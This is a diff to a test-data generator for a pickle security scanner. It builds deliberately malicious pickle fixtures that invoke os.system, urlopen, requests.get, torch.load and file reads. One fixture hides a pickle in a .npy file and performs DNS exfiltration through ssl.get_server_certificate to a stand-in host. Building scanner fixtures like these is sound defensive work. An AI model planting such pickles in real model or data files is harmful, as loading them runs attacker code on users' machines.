@@ -289,12 +289,20 @@ PS = [  # file, module, qualified name, args, protocol
     ("ps_GHSA-r8g5-cgf2-4m4m.pkl", "numpy.f2py.crackfortran", "getlincoef", (_payload, []), 4),
     ("ps_io_FileIO.pkl", "_io", "FileIO", ("/etc/hosts", "r"), 4),
     ("ps_urllib_request_urlopen.pkl", "urllib.request", "urlopen", ("https://example.invalid",), 4),
-    ("ps_dns_exfiltration.pkl", "ssl", "get_server_certificate", (("x.invalid", 443),), 4),
 ]
 for fname, mod, qn, args, proto in PS:
     spelt = "httplib" if proto < 3 and mod == "http.client" else mod   # pickle's fix_imports
     put(fname, pickle.dumps(Call(fake(mod, qn), args), protocol=proto), "malicious",
         "PICKLE_GLOBAL:global '%s.%s'" % (spelt, qn), "P picklescan", "picklescan tests/init_data_files.py")
+import functools
+put("ps_malicious6.pkl", pickle.dumps(["a", "b", "c"]) + pickle.dumps(Call(fake("requests.api", "get"), ("https://github.com",))),
+    "malicious", "PICKLE_GLOBAL:global 'requests.api.get'", "P picklescan", "malicious6.pkl: a benign pickle, then a malicious one")
+put("ps_malicious19.pkl", pickle.dumps(Call(functools.partial(fake("torch", "load"), "some_other_model.bin",
+                                                               pickle_file="config.json", weights_only=False), ()), 4),
+    "malicious", "PICKLE_GLOBAL:global 'torch.load'", "P picklescan", "malicious19.pkl: functools.partial(torch.load, ...)")
+dns = pickle.dumps(Call(fake("ssl", "get_server_certificate"), (("x.dns-logger.invalid", 443),)), 3)
+put("ps_dns_exfiltration.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + dns, "malicious",
+    "PICKLE_GLOBAL:global 'ssl.get_server_certificate'", "P picklescan", "data2/dns_exfiltration.npy: object array")
 put("ps_malicious23.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.", "malicious", "PICKLE_GLOBAL:global 'os.system'",
     "P picklescan", "GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL of protocol 0 strings, no PROTO")
 put("ps_type_confusion.pkl", b"\x80\x04cos\nsystem\nVecho x\n\x85R0J*\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.",
